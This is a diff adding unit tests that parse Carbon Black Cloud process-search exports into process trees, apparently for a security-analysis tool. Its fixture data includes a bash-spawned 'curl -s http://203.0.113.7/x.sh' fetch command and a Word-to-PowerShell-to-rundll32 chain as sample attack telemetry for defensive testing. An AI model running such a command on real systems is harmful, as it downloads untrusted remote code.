@@ -127,6 +127,52 @@ describe("normalizeEvents: process events", () => {
     assert.deepEqual(col(tree.filter(pl.col("endpoint.name").eq(pl.lit("SRV-1")).and(pl.col("IsInferred").not())), "tgt.process.name"), ["svchost.exe"]);
   });
 
+  it("Carbon Black Cloud process search (CSV): process_guid/parent_guid link the tree whatever PID reuse and hosts say; process_start_time keys it", () => {
+    const raw = readDataFile(path.join(__dirname, "..", "..", "fixtures", "schemas", "process", "carbon_black_cloud.csv"));
+    assert.equal(detectEventSchema(raw, "process").name, "Carbon Black Cloud");
+    const df = normalizeEvents(raw, "process");
+    for (const c of LAB_DESCRIPTIVE) assert.ok(df.columns.includes(c), c);
+    assert.equal(df.height, raw.height, "every row of a process search is a process");
+    assert.equal(df.getColumn("TimeGenerated").dtype.variant, "Datetime");
+    const curl = df.filter(pl.col("process_pid").eq(7700));
+    assert.deepEqual(col(curl, "NewProcessName"), ["/usr/bin/curl"]);
+    assert.deepEqual(col(curl, "ParentProcessName"), ["/usr/bin/bash"]);
+    assert.deepEqual(col(curl, "CommandLine"), ["curl -s http://203.0.113.7/x.sh"]);
+    assert.deepEqual(col(curl, "Computer"), ["srv-1"]);
+    const word = df.filter(pl.col("process_pid").eq(6120));
+    assert.deepEqual(col(word, "Account"), ["NEXACORP\\dana.levi"]);
+    assert.deepEqual(col(word, "SubjectUserName"), ["dana.levi"]);
+    assert.equal(inferProcessSchema(df.columns)?.name, "Carbon Black Cloud");
+    const tree = buildProcessTree(df);
+    const name = (t: pl.DataFrame) => col(t, "process_name").map((n) => String(n).split(/[\\/]/).pop());
+    const wordRow = tree.filter(pl.col("process_pid").eq(6120));
+    assert.deepEqual(name(ptree.getDescendents(tree, wordRow)), ["winword.exe", "powershell.exe", "rundll32.exe"]);
+    // PID 7412 came back on wks-7 as another process (another GUID): whoami is the second one's child.
+    const whoami = tree.filter(pl.col("process_pid").eq(7600));
+    assert.deepEqual(col(ptree.getParent(tree, whoami), "process_guid"), ["7DESJ9GN-0034d5f2-00001cf4-00000000-1dd3f2a1b000009"]);
+    // explorer.exe is not in the search: rebuilt once (one GUID) for both its children.
+    const explorer = tree.filter(pl.col("IsInferred").and(pl.col("process_guid").eq(pl.lit("7DESJ9GN-0034d5f2-0000113a-00000000-1dd3f29f0000001"))));
+    assert.equal(explorer.height, 1);
+    assert.deepEqual(col(explorer, "process_name"), ["c:\\windows\\explorer.exe"]);
+    assert.deepEqual(name(ptree.getChildren(tree, explorer)).sort(), ["powershell.exe", "winword.exe"]);
+    // srv-1's sshd has wks-7's explorer PID (4410) and its bash PID 7412: another host's processes, their own tree.
+    const bash = tree.filter(pl.col("process_name").eq(pl.lit("/usr/bin/bash")));
+    assert.deepEqual(col(ptree.getParent(tree, bash), "process_name"), ["/usr/sbin/sshd"]);
+    assert.deepEqual(name(ptree.getChildren(tree, bash)), ["curl"]);
+    // The start time keys a process; where a result has none (whoami), device_timestamp stands in.
+    assert.equal((col(tree.filter(pl.col("process_pid").eq(6120)), "process_start_time")[0] as Date).toISOString(), "2026-09-28T10:10:21.000Z");
+    assert.equal(whoami.height, 1);
+  });
+
+  it("Carbon Black Cloud API JSON: its lists of one value, flattened as docs/schemas.md says, give the CSV export's tree", () => {
+    const dir = path.join(__dirname, "..", "..", "fixtures", "schemas", "process");
+    const raw = readDataFile(path.join(dir, "carbon_black_cloud.json"));
+    assert.equal(raw.getColumn("process_pid").dtype.variant, "List");
+    const flat = raw.withColumns(...["process_pid", "process_cmdline", "process_username"].map((c) => pl.col(c).lst.first()));
+    const text = (df: pl.DataFrame) => ptree.treeToText(buildProcessTree(normalizeEvents(df, "process")));
+    assert.equal(text(flat), text(readDataFile(path.join(dir, "carbon_black_cloud.csv"))));
+  });
+
   it("keeps only process events, as the logon and flow schemas keep only theirs: other event types out, rows without an event type kept, no warning", () => {
     const warnings: string[] = [];
     // ECS: a Winlogbeat Sysmon 3 connection also has event.type start (its category network); a row without event.type cannot be told apart.
